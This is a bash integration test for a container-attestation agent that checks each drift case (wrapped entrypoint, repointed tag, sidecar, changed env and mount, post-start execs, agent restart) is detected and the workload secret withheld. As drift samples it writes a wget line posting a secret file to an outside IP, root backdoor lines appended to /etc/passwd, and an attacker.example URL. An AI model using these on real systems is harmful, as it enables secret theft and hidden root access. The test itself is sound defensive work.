#!/usr/bin/env bash
# Container drift with real runc containers under a real agent, verifier and
# swtpm: each case from the field, asserting the verdict, the precise reason,
# and that no secret is released after the drift. Needs root.
#   1 approved container runs and its workload secret is released
#   2 entrypoint wrapped by a script    3 repointed mutable tag
#   4 injected sidecar                  5 env var changed, secret mounted from elsewhere
#   6 binary written and exec'd after start (detect, then enforce: denied)
#   7 a binary of the image exec'd from another path
set -u
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/lib_runc.sh"
[ "$(id -u)" -eq 0 ] || dg_fail "container_drift needs root (runc, fanotify)"
dg_workdir
CTR="$DG_WORK/ctr"
dg_runc_tmpfs "$CTR" || dg_fail "tmpfs for the rootfs"
mkdir -p "$DG_WORK/policies" "$DG_WORK/secrets" "$DG_WORK/vol-a" "$DG_WORK/vol-b"
chmod 700 "$DG_WORK/secrets"
echo "db-password-a" > "$DG_WORK/vol-a/db"
echo "db-password-b" > "$DG_WORK/vol-b/db"
token="tok-$(od -An -N8 -tx1 /dev/urandom | tr -d ' \n')"
( umask 077; printf '%s' "$token" > "$DG_WORK/secrets/api-token" )
dg_verifier_start

# Every bundle of this test: workload "web"; the approved one is main.
export DG_WORKLOAD=web DG_CONTAINER=main DG_IMAGE_REF=registry.example/web:1.4 \
	DG_IMAGE_DIGEST=sha256:1111111111111111111111111111111111111111111111111111111111111111
CTL_URL=""   # set per case: the control socket of that case's agent
bundle() { # DIR ARGS...: a bundle whose hooks call this case's agent
	DG_RUNC_HOOK_CREATE_RUNTIME="$DG_AGENT hook --control $CTL_URL" \
	DG_RUNC_HOOK_POSTSTOP="$DG_AGENT hook --control $CTL_URL" \
	DG_RUNC_ENV="API_URL=https://api.internal/v1" \
	DG_RUNC_BINDS="$DG_WORK/vol-a:/run/secrets:ro
$(dg_runc_workload_bind)" dg_runc_bundle "$@"
}

# The approval: made once from an approved bundle, whose hook path is the one
# every case uses (the socket path is the same for all cases: ipc in $DG_WORK).
CTL_URL="ipc://$DG_WORK/agent.sock"
bundle "$CTR/approved" /bin/sh -c 'sleep 60' || dg_fail "approved bundle"
"$DG_VERIFIER" workload --name web --agent 'node-*' --secret api-token \
	--container "main=$CTR/approved" --output "$DG_WORK/policies" || dg_fail "workload approval"
kill "$VERIFIER_PID"; wait "$VERIFIER_PID" 2>/dev/null
dg_verifier_start   # reload with the workload

# new_node NAME [agent options]: a fresh TPM and agent for one case (drift is
# sticky until the node reboots, so cases do not share a node).
new_node() {
	local name=$1; shift
	[ -n "${AGENT_PID:-}" ] && { kill "$AGENT_PID"; wait "$AGENT_PID" 2>/dev/null; }
	dg_swtpm_start "tpm-$name"
	AGENT_CTL=$CTL_URL
	${DG_AGENT_WRAP:-} "$DG_AGENT" run --agent-id "$name" --tcti "$TCTI" --verifier "$VERIFIER_URL" \
		--control "$AGENT_CTL" --state-dir "$DG_WORK/agent-$name" --interval 30 \
		--workload-socket "$DG_WORK/wl/api.sock" "$@" \
		>>"$DG_WORK/agent-$name.log" 2>&1 &
	AGENT_PID=$!
	DG_PIDS+=("$AGENT_PID")
	dg_wait_verdict_any
}

# Wait until the agent has any verdict; print it.
dg_wait_verdict_any() {
	for _ in $(seq 1 300); do
		case "$(dg_agent_ctl status 2>/dev/null)" in *"last verdict pass"*|*"last verdict fail"*) return 0 ;; esac
		sleep 0.1
	done
	tail -20 "$DG_WORK"/agent-*.log >&2; dg_fail "agent never attested"
}

# expect_fail CODE TEXT: the agent's verdict fails with reason CODE whose
# detail contains TEXT, and the workload secret is withheld.
expect_fail() {
	local out
	for _ in $(seq 1 100); do
		out=$(dg_agent_ctl status 2>/dev/null)
		case "$out" in *"last verdict fail"*"$1: "*) break ;; esac
		sleep 0.1
	done
	case "$out" in *"$1: "*"$2"*) ;; *) echo "$out" >&2; dg_fail "expected reason $1 naming '$2'" ;; esac
	if workload_secret >/dev/null 2>&1; then dg_fail "secret released after drift"; fi
	dg_note "  -> $1 ($2), secret withheld"
}

expect_pass() {
	dg_wait_verdict pass
	[ "$(workload_secret)" = "$token" ] || dg_fail "secret not released"
}

# The workload secret, as the newest container asks for it (workload API).
workload_secret() { dg_runc exec "$CURRENT" /bin/driftgate-secret api-token; }

run_bg() { # ID BUNDLE
	CURRENT=$1
	dg_runc_run_bg "$1" "$2" || { cat "$DG_WORK/runc-$1.err" >&2; dg_fail "runc run $1"; }
}

# 1. The approved container.
dg_note "case 1: approved container"
new_node node-1
run_bg c1 "$CTR/approved"
dg_agent_ctl attest >/dev/null
expect_pass
dg_runc exec c1 /bin/true || dg_fail "exec of an approved binary"
dg_agent_ctl attest >/dev/null
expect_pass
grep -q "dg:exec:c1:/bin/busybox" <("$DG_AGENT" log --state-dir "$DG_WORK/agent-node-1") \
	|| dg_fail "the exec was not measured"
dg_note "  -> pass, secret released, execs measured"
dg_runc kill c1 KILL; wait "$RUNC_PID" 2>/dev/null

# 2. The entrypoint wrapped by a script that runs first.
dg_note "case 2: entrypoint wrapped"
new_node node-2
bundle "$CTR/wrapped" /bin/sh /wrap.sh || dg_fail "bundle"
printf '#!/bin/sh\nwget -q -O- --post-data "$(cat /run/secrets/db)" http://203.0.113.9/ 2>/dev/null\nexec sleep 60\n' \
	> "$CTR/wrapped/rootfs/wrap.sh"
run_bg c2 "$CTR/wrapped"
expect_fail spec-changed "arg[1]"
expect_fail file-added "/wrap.sh"
dg_runc kill c2 KILL; wait "$RUNC_PID" 2>/dev/null

# 3. The same image name, repointed to another digest and rootfs.
dg_note "case 3: repointed tag"
new_node node-3
DG_IMAGE_DIGEST=sha256:2222222222222222222222222222222222222222222222222222222222222222 \
	bundle "$CTR/repointed" /bin/sh -c 'sleep 60' || dg_fail "bundle"
echo "backdoor:x:0:0::/:/bin/sh" >> "$CTR/repointed/rootfs/etc/passwd"
run_bg c3 "$CTR/repointed"
expect_fail spec-changed "image-digest"
expect_fail file-changed "/etc/passwd"
dg_runc kill c3 KILL; wait "$RUNC_PID" 2>/dev/null

# 4. A sidecar injected into the workload.
dg_note "case 4: injected sidecar"
new_node node-4
run_bg c4 "$CTR/approved"
main_pid=$RUNC_PID
dg_agent_ctl attest >/dev/null
expect_pass
DG_CONTAINER=logger bundle "$CTR/sidecar" /bin/sh -c 'sleep 60' || dg_fail "bundle"
run_bg c4s "$CTR/sidecar"
expect_fail unexpected-container "logger"
dg_runc kill c4s KILL; dg_runc kill c4 KILL; wait "$RUNC_PID" "$main_pid" 2>/dev/null

# 5. An env var changed, and the secret mounted from another source.
dg_note "case 5: env and mount source changed"
new_node node-5
DG_RUNC_ENV="API_URL=https://attacker.example/v1" DG_RUNC_BINDS="$DG_WORK/vol-b:/run/secrets:ro
$(dg_runc_workload_bind)" dg_runc_bundle "$CTR/envmount" /bin/sh -c 'sleep 60' || dg_fail "bundle"
python3 - "$CTR/envmount/config.json" "$DG_AGENT hook --control $CTL_URL" <<'PY'
import json, shlex, sys
p, cmd = sys.argv[1], sys.argv[2]
c = json.load(open(p))
argv = shlex.split(cmd)
c["hooks"] = {k: [{"path": argv[0], "args": argv, "timeout": 30}] for k in ("createRuntime", "poststop")}
json.dump(c, open(p, "w"), indent=2)
PY
run_bg c5 "$CTR/envmount"
expect_fail spec-changed "env API_URL"
expect_fail spec-changed "mount /run/secrets"
grep -q "attacker.example" "$DG_WORK/audit.jsonl" && dg_fail "an env value leaked into the audit trail"
dg_runc kill c5 KILL; wait "$RUNC_PID" 2>/dev/null

# 6. A binary written into the running container and exec'd.
dg_note "case 6: drift after start (detect)"
new_node node-6
run_bg c6 "$CTR/approved"
dg_agent_ctl attest >/dev/null
expect_pass
printf '#!/bin/sh\necho mining\n' > "$CTR/approved/rootfs/tmp/miner"; chmod +x "$CTR/approved/rootfs/tmp/miner"
dg_runc exec c6 /tmp/miner > "$DG_WORK/miner.out" || dg_fail "detect-only must let the exec run"
grep -q mining "$DG_WORK/miner.out" || dg_fail "the miner did not run in detect-only mode"
expect_fail exec-unknown "/tmp/miner"
dg_runc kill c6 KILL; wait "$RUNC_PID" 2>/dev/null
rm -f "$CTR/approved/rootfs/tmp/miner"

dg_note "case 6b: drift after start (enforce)"
new_node node-6e --enforce
run_bg c6e "$CTR/approved"
dg_agent_ctl attest >/dev/null
expect_pass
printf '#!/bin/sh\necho mining\n' > "$CTR/approved/rootfs/tmp/miner"; chmod +x "$CTR/approved/rootfs/tmp/miner"
if dg_runc exec c6e /tmp/miner > "$DG_WORK/miner.out" 2>&1; then dg_fail "enforce let an unapproved exec run"; fi
grep -q mining "$DG_WORK/miner.out" && dg_fail "the miner ran under enforce"
grep -q "denied exec of /tmp/miner" "$DG_WORK/agent-node-6e.log" || dg_fail "the denial is not in the agent's log"
expect_fail exec-unknown "/tmp/miner"
dg_runc kill c6e KILL; wait "$RUNC_PID" 2>/dev/null
rm -f "$CTR/approved/rootfs/tmp/miner"

# 7. A binary of the image, exec'd from another path.
dg_note "case 7: approved binary from another path"
new_node node-7
run_bg c7 "$CTR/approved"
dg_agent_ctl attest >/dev/null
expect_pass
# (busybox picks its applet from argv[0]: the copy is named after one)
cp "$CTR/approved/rootfs/bin/busybox" "$CTR/approved/rootfs/tmp/sh"
dg_runc exec c7 /tmp/sh -c true || dg_fail "exec /tmp/sh"
expect_fail exec-moved "/tmp/sh"
dg_runc kill c7 KILL; wait "$RUNC_PID" 2>/dev/null
rm -f "$CTR/approved/rootfs/tmp/sh"

# 8. The agent restarts while a container runs: it keeps watching it, and a
# container created later still gets its manifest to the verifier.
dg_note "case 8: agent restart with a running container"
new_node node-8
run_bg c8 "$CTR/approved"
c8_pid=$RUNC_PID
dg_agent_ctl attest >/dev/null
expect_pass
kill "$AGENT_PID"; wait "$AGENT_PID" 2>/dev/null
"$DG_AGENT" run --agent-id node-8 --tcti "$TCTI" --verifier "$VERIFIER_URL" \
	--control "$AGENT_CTL" --state-dir "$DG_WORK/agent-node-8" --interval 30 \
	--workload-socket "$DG_WORK/wl/api.sock" \
	>>"$DG_WORK/agent-node-8.log" 2>&1 &
AGENT_PID=$!
DG_PIDS+=("$AGENT_PID")
dg_wait_verdict_any
expect_pass
grep -q "container c8 still runs: watching it again" "$DG_WORK/agent-node-8.log" \
	|| dg_fail "the restarted agent did not reload container c8"
DG_IMAGE_DIGEST=sha256:3333333333333333333333333333333333333333333333333333333333333333 \
	bundle "$CTR/later" /bin/sh -c 'sleep 60' || dg_fail "bundle"
echo "intruder:x:0:0::/:/bin/sh" >> "$CTR/later/rootfs/etc/passwd"
run_bg c8b "$CTR/later"
expect_fail file-changed "/etc/passwd"
printf '#!/bin/sh\necho late\n' > "$CTR/approved/rootfs/tmp/late"; chmod +x "$CTR/approved/rootfs/tmp/late"
dg_runc exec c8 /tmp/late >/dev/null || dg_fail "exec /tmp/late"
expect_fail exec-unknown "/tmp/late"
dg_runc kill c8b KILL; dg_runc kill c8 KILL; wait "$RUNC_PID" "$c8_pid" 2>/dev/null
rm -f "$CTR/approved/rootfs/tmp/late"

dg_note "all container drift cases detected with precise reasons; no secret after drift"
